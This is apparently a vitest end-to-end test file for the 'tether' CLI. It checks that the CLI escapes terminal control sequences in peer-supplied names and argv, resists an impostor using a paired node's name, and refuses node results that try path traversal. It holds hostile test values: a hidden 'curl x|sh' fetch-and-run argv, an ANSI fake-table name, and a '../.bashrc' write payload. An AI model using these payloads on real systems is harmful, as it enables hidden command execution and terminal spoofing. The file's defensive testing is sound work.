/**
 * The CLI against peers that lie, end to end with real processes: display names and argv that try to
 * redraw the operator's terminal (finding 10), an unpaired socket that takes a paired node's name
 * (finding 8), and a paired node whose results try to write files or crash the CLI (finding 6).
 */
import { existsSync, mkdirSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { DevicePairListResult, GatewayClient } from '@tether/protocol';
import { cleanup, eventually, runTether, runTetherJson, startGatewayProcess, tempDir, type GatewayProcess } from '../helpers/processes.js';
import { answerInvokes, connectOperator, connectTestNode, sharedToken, type TestNode } from '../helpers/clients.js';
import { connectRawNode, hasRawControls, type RawNode } from './cli-helpers.js';

afterAll(cleanup);

/** The review's fake-table name: it erases its own row and draws a "Paired" table under it. */
const FAKE_TABLE_NAME = 'x\x1b[8m\r\x1b[2K\nPaired (1)\nDEVICE NAME ROLES\n3f2a9c1b07de kitchen-pi node\x1b[0m';
const HIDDEN_ARGV = ['sh', '-c', 'uname -a\x1b[8m; curl x|sh\x1b[0m'];

/** The error the CLI printed is one line, says "error:", and no stack trace leaked. */
function expectOneLineError(stderr: string): void {
  expect(stderr).toMatch(/^error: [^\n]+\n$/);
  expect(stderr).not.toMatch(/\n\s+at /);
}

describe('remote strings in the terminal (finding 10)', () => {
  let gateway: GatewayProcess;
  const gw = () => ['--state-dir', gateway.stateDir];
  const peers: RawNode[] = [];

  beforeAll(async () => {
    gateway = await startGatewayProcess({ args: ['--no-local-auto-approve'] });
  });
  afterAll(() => peers.forEach((p) => p.peer.ws.close()));

  it('a pending device name cannot draw a fake table in `tether devices list`', async () => {
    const hostile = await connectRawNode(gateway.url, { displayName: FAKE_TABLE_NAME });
    peers.push(hostile);
    expect(hostile.answer.ok).toBe(false);

    const list = await runTether(['devices', 'list', ...gw()]);
    expect(list.code).toBe(0);
    expect(hasRawControls(list.stdout)).toBe(false);
    const lines = list.stdout.split('\n');
    // Only the CLI's own headings start a line; the injected ones stay inside the NAME cell, escaped.
    expect(lines.filter((line) => line.startsWith('Paired'))).toEqual(['Paired (0)']);
    expect(lines.some((line) => line.startsWith('3f2a9c1b07de'))).toBe(false);
    expect(list.stdout).toContain('x\\x1b[8m\\x0d\\x1b[2K\\x0aPaired (1)');
  });

  it('--json keeps the same value but escapes C1 controls and bidi overrides too', async () => {
    const name = 'evil\u202etxt.exe\x9b2J';
    const hostile = await connectRawNode(gateway.url, { displayName: name });
    peers.push(hostile);
    const list = await runTether(['devices', 'list', '--json', ...gw()]);
    expect(list.code).toBe(0);
    expect(hasRawControls(list.stdout)).toBe(false);
    expect(list.stdout).toContain('evil\\u202etxt.exe\\u009b2J');
    const parsed = JSON.parse(list.stdout) as DevicePairListResult;
    expect(parsed.pending.map((p) => p.displayName)).toContain(name);
  });
});

describe('exec approvals show the whole command (finding 10)', () => {
  let gateway: GatewayProcess;
  let node: TestNode;
  const gw = () => ['--state-dir', gateway.stateDir];

  beforeAll(async () => {
    gateway = await startGatewayProcess();
    node = await connectTestNode(gateway.url, { commands: ['system.run'], displayName: 'ask\x1b[2Knode', token: sharedToken(gateway.stateDir) });
  });
  afterAll(() => node.client.close());

  it('an argv that hides `curl x|sh` behind ESC[8m is shown escaped in `tether approvals list`', async () => {
    const ask = { command: 'system.run', argv: HIDDEN_ARGV, cwd: '/tmp/\x1b[8mhidden', resolvedPath: '/bin/sh', timeoutMs: 20_000 };
    void node.client.request('exec.approval.request', ask, { timeoutMs: 25_000 }).catch(() => undefined);
    const table = await eventually(async () => {
      const result = await runTether(['approvals', 'list', ...gw()]);
      return result.stdout.includes('No exec approvals') ? undefined : result;
    });
    expect(table.code).toBe(0);
    expect(hasRawControls(table.stdout)).toBe(false);
    expect(table.stdout).toContain("sh -c $'uname -a\\x1b[8m; curl x|sh\\x1b[0m'");
    expect(table.stdout).toContain('/tmp/\\x1b[8mhidden');
    expect(table.stdout).toContain('ask\\x1b[2Knode');
  });
});

describe('--node names resolve among paired nodes first (finding 8)', () => {
  let gateway: GatewayProcess;
  let operator: GatewayClient;
  let paired: string;
  let impostor: RawNode;
  const gw = () => ['--state-dir', gateway.stateDir];

  beforeAll(async () => {
    gateway = await startGatewayProcess({ args: ['--no-local-auto-approve'] });
    operator = await connectOperator(gateway.url, gateway.stateDir);
    // The real kitchen-pi: paired by the owner, now offline.
    const real = await connectRawNode(gateway.url, { displayName: 'kitchen-pi' });
    real.peer.ws.close();
    await operator.request('device.pair.approve', { requestId: real.answer.error.details.requestId });
    paired = real.key.deviceId;
    // An unauthenticated peer holds a socket under the same name.
    impostor = await connectRawNode(gateway.url, { displayName: 'kitchen-pi', held: true });
    expect(impostor.answer.ok).toBe(true);
    await eventually(async () => {
      const { nodes } = await operator.request<{ nodes: { nodeId: string; connected: boolean }[] }>('node.list', {});
      return nodes.some((n) => n.nodeId === impostor.key.deviceId && n.connected) ? true : undefined;
    });
  });
  afterAll(async () => {
    impostor.peer.ws.close();
    await operator.close();
  });

  it('`--node kitchen-pi` targets the paired node, and never suggests approving the impostor', async () => {
    const run = await runTether(['nodes', 'run', '--node', 'kitchen-pi', ...gw(), '--', 'uname']);
    expect(run.code).toBe(1);
    // A note says the impostor was ignored; the error is about the paired node alone.
    const [note, error, ...rest] = run.stderr.split('\n');
    expect(rest).toEqual(['']);
    expect(note).toBe(`note: an unpaired device also calls itself "kitchen-pi" (${impostor.key.deviceId.slice(0, 12)}); it was ignored`);
    expectOneLineError(`${error}\n`);
    expect(error).toContain(paired.slice(0, 12));
    expect(error).toMatch(/offline|not connected/);
    expect(error).not.toContain(impostor.key.deviceId.slice(0, 12));
    expect(run.stderr).not.toMatch(/approve/);
  });

  it('a name that only an unpaired device uses is refused with "NOT paired" and the verification-code step', async () => {
    const stranger = await connectRawNode(gateway.url, { displayName: 'garage-cam', held: true });
    try {
      const run = await runTether(['nodes', 'run', '--node', 'garage-cam', ...gw(), '--', 'uname']);
      expect(run.code).toBe(1);
      expectOneLineError(run.stderr);
      expect(run.stderr).toContain('NOT paired');
      expect(run.stderr).toContain('verification code');
      expect(run.stderr).toContain('tether devices list');
      expect(run.stderr).not.toContain('tether devices approve');
    } finally {
      stranger.peer.ws.close();
    }
  });

  it('`tether nodes list` marks both kitchen-pi rows and names the ids in a warning', async () => {
    const list = await runTether(['nodes', 'list', ...gw()]);
    expect(list.code).toBe(0);
    const rows = list.stdout.split('\n').filter((line) => line.includes('kitchen-pi') && !/^warning/i.test(line));
    expect(rows).toHaveLength(2);
    for (const row of rows) expect(row).toContain('(duplicate name)');
    const warning = list.stdout.split('\n').find((line) => /^warning/i.test(line));
    expect(warning).toBeDefined();
    expect(warning).toContain('kitchen-pi');
    expect(warning).toContain(paired.slice(0, 12));
    expect(warning).toContain(impostor.key.deviceId.slice(0, 12));
  });

  it('`tether devices approve` will not approve the impostor on its request id alone', async () => {
    const before = await runTetherJson<DevicePairListResult>(['devices', 'list', ...gw()]);
    const request = before.pending.find((r) => r.deviceId === impostor.key.deviceId)!;
    const approve = await runTether(['devices', 'approve', request.requestId.slice(0, 8), ...gw()]);
    expect(approve.code).toBe(1);
    expectOneLineError(approve.stderr);
    expect(approve.stderr).toContain(`paired device ${paired.slice(0, 12)}`);
    expect(approve.stderr).toContain(`verification code (${request.verificationCode})`);
    const after = await runTetherJson<DevicePairListResult>(['devices', 'list', ...gw()]);
    expect(after.pending.map((r) => r.requestId)).toContain(request.requestId);
    expect(after.paired.map((d) => d.deviceId)).not.toContain(impostor.key.deviceId);
  });

  it('`tether devices list` flags a pending request that uses a paired device\'s name', async () => {
    const list = await runTether(['devices', 'list', ...gw()]);
    expect(list.code).toBe(0);
    const warning = list.stdout.split('\n').find((line) => /^warning/i.test(line) && line.includes('kitchen-pi'));
    expect(warning).toBeDefined();
    expect(warning).toContain(paired.slice(0, 12));
    expect(warning).toContain(impostor.key.deviceId.slice(0, 12));
    expect(warning).toContain('verification code');
  });
});

describe('hostile node results (finding 6)', () => {
  let gateway: GatewayProcess;
  let node: TestNode;
  let stopAnswering: () => void;
  const answers = new Map<string, unknown>();
  const gw = () => ['--state-dir', gateway.stateDir];

  beforeAll(async () => {
    gateway = await startGatewayProcess();
    node = await connectTestNode(gateway.url, { commands: ['camera.snap', 'camera.list', 'screen.record', 'system.run'], displayName: 'evil-cam', token: sharedToken(gateway.stateDir) });
    stopAnswering = answerInvokes(node, ({ command }) => ({ payload: answers.get(command) }));
  });
  afterAll(async () => {
    stopAnswering();
    await node.client.close();
  });

  /** A throwaway home and temp dir: the node aims its file at HOME/.bashrc through TMPDIR. */
  function victim() {
    const base = tempDir('tether-victim-');
    const tmp = join(base, 'tmp');
    const home = join(base, 'home');
    mkdirSync(tmp);
    mkdirSync(home);
    return { tmp, home, bashrc: join(home, '.bashrc'), env: { TMPDIR: tmp, HOME: home } };
  }

  it('a path-like format cannot make `camera snap` write outside the temp directory', async () => {
    const v = victim();
    answers.set('camera.snap', { format: '/../../home/.bashrc', base64: Buffer.from('echo OWNED-BY-NODE\n').toString('base64'), width: 1, height: 1 });
    const snap = await runTether(['nodes', 'camera', 'snap', '--node', 'evil-cam', ...gw()], v.env);
    expect(snap.code).toBe(1);
    expectOneLineError(snap.stderr);
    expect(snap.stderr).toContain('camera.snap');
    expect(existsSync(v.bashrc)).toBe(false);
    expect(readdirSync(v.tmp)).toEqual([]);

    const json = await runTether(['nodes', 'camera', 'snap', '--node', 'evil-cam', '--json', ...gw()], v.env);
    expect(json.code).toBe(1);
    // The gateway refuses it before relaying (details.code); a CLI against an older gateway refuses it itself (code).
    const refusal = JSON.parse(json.stdout) as { ok: boolean; error: { code: string; details?: { code?: string } } };
    expect(refusal.ok).toBe(false);
    expect([refusal.error.code, refusal.error.details?.code]).toContain('INVALID_NODE_RESULT');
    expect(existsSync(v.bashrc)).toBe(false);
  });

  it('a valid snapshot is saved under the temp directory with the extension the CLI chose', async () => {
    const v = victim();
    answers.set('camera.snap', { format: 'jpg', base64: Buffer.from([0xff, 0xd8, 0xff]).toString('base64'), width: 1, height: 1, vendorExtra: { ok: 1 } });
    const snap = await runTether(['nodes', 'camera', 'snap', '--node', 'evil-cam', ...gw()], v.env);
    expect(snap.stderr).toBe('');
    expect(snap.code).toBe(0);
    const path = snap.stdout.trim();
    expect(path.startsWith(`${v.tmp}/tether-camera-snap-`)).toBe(true);
    expect(path.endsWith('.jpg')).toBe(true);
    expect(readdirSync(v.tmp)).toHaveLength(1);
  });

  it('an unknown format for screen.record is refused, not saved', async () => {
    const v = victim();
    answers.set('screen.record', { format: 'sh', base64: 'ZWNobw==', durationMs: 1, fps: 1, screenIndex: 0, hasAudio: false });
    const rec = await runTether(['nodes', 'screen', 'record', '--node', 'evil-cam', ...gw()], v.env);
    expect(rec.code).toBe(1);
    expectOneLineError(rec.stderr);
    expect(readdirSync(v.tmp)).toEqual([]);
  });

  it('wrong types in a system.run or camera.list result end in one line, not a stack', async () => {
    answers.set('system.run', { exitCode: 0, timedOut: false, success: true, stdout: 42, stderr: null, error: null });
    const run = await runTether(['nodes', 'run', '--node', 'evil-cam', ...gw(), '--', 'uname']);
    expect(run.code).toBe(1);
    expectOneLineError(run.stderr);
    expect(run.stderr).toContain('system.run');

    answers.set('camera.list', { devices: 'not-a-list' });
    const list = await runTether(['nodes', 'camera', 'list', '--node', 'evil-cam', ...gw()]);
    expect(list.code).toBe(1);
    expectOneLineError(list.stderr);
  });
});
